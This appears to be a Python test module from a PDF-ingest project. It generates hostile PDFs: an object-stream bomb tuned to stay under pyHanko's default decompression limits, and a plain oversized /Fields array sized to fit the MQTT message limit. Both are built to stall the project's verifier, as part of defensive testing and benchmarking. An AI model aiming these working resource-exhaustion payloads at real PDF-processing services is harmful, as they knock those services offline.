"""Hostile PDFs for the tests and the attack benchmark: what an attacker holding one appliance's
transport key sends to stop ingest.

`fields_bomb` is the object-stream bomb of issue 14: an unsigned PDF whose `/AcroForm /Fields`
array lives in one compressed object stream that expands to tens of MiB of references. It stays
under pyHanko's default decoding limits (64 MiB per object stream, at most 100 times the
encoded size; 256 MiB per document), so with those limits it reaches the parser: 0.9 MB on the
wire became 60 MiB of references that took 81 s and 2.3 GB to parse.
"""

from __future__ import annotations

import functools
import random
import struct
import zlib

MiB = 1024 * 1024
_TOKEN = b"6 0 R "
_RARE = 20
"""Out of 256, how often a reference names object 7 instead of 6: the randomness that keeps the
stream's compression ratio (about 70:1) under pyHanko's default cap of 100:1."""
_DIGIT = bytes(ord("7") if i < _RARE else ord("6") for i in range(256))


def fields_bomb(decoded_mib: float = 60.0, *, seed: int = 14) -> bytes:
    """An unsigned PDF whose `/Fields` array, in one Flate object stream, decodes to
    `decoded_mib` MiB of references (objects 6 and 7, which do not exist).

    Args:
        decoded_mib: the decoded size of the object stream.
        seed: varies a comment in the header, so that each seed is another result id (the
            object stream, slow to compress, is made once per size).
    """
    header, objstm = _fields_objstm(decoded_mib)
    return _pdf(objstm, first=len(header), nonce=seed)


@functools.lru_cache(maxsize=4)
def _fields_objstm(decoded_mib: float) -> tuple[bytes, bytes]:
    count = int(decoded_mib * MiB) // len(_TOKEN)
    noise = random.Random(14).randbytes(count)  # noqa: S311 - test data, not a secret
    refs = bytearray(_TOKEN * count)
    # Every token's first byte is its object number: 7 where the noise byte is rare, else 6.
    refs[0 :: len(_TOKEN)] = noise.translate(_DIGIT)
    body = b"<< /Fields [ " + bytes(refs) + b"] >>"
    header = b"3 0 "
    return header, zlib.compress(header + body, 9)


def plain_fields_bomb(mib: float = 4.0, *, seed: int = 14) -> bytes:
    """An unsigned PDF whose `/Fields` array of `mib` MiB of references is written out plainly
    (no compression, no object stream): nothing for decoding limits to catch, only parsing to
    pay for (about 1.3 s of CPU a MiB), so only the verifier's CPU and memory limits stop it.
    4 MiB fits in one MQTT message of the broker's 5 MiB maximum.

    Args:
        mib: the size of the array.
        seed: varies a comment in the header (a new result id).
    """
    count = int(mib * MiB) // len(_TOKEN)
    out = bytearray(b"%%PDF-1.7\n%%\xe2\xe3\xcf\xd3 %d\n" % seed)
    offsets = []
    for number, content in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>"),
        (2, b"<< /Type /Pages /Kids [] /Count 0 >>"),
        (3, b"<< /Fields [ " + _TOKEN * count + b"] >>"),
    ):
        offsets.append(len(out))
        out.extend(b"%d 0 obj\n" % number + content + b"\nendobj\n")
    xref_at = len(out)
    out.extend(b"xref\n0 4\n0000000000 65535 f \n")
    out.extend(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.extend(b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def compression_ratio(pdf: bytes) -> float:
    """The decoded-to-encoded ratio of the (single) Flate stream of a `fields_bomb`."""
    start = pdf.index(b"stream\n") + len(b"stream\n")
    end = pdf.index(b"\nendstream", start)
    encoded = pdf[start:end]
    return len(zlib.decompress(encoded)) / len(encoded)


def _pdf(objstm: bytes, *, first: int, nonce: int) -> bytes:
    out = bytearray(b"%%PDF-1.7\n%%\xe2\xe3\xcf\xd3 %d\n" % nonce)
    offsets: dict[int, int] = {}

    def obj(number: int, content: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + content + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [] /Count 0 >>")
    obj(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (first, len(objstm))
        + objstm
        + b"\nendstream",
    )
    xref_at = len(out)
    offsets[5] = xref_at
    # A cross-reference stream (ISO 32000-1 7.5.8): object 3 lives in object stream 4 (type 2).
    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (2, 4, 0)]
    rows += [(1, offsets[4], 0), (1, xref_at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    obj(
        5,
        b"<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream",
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)
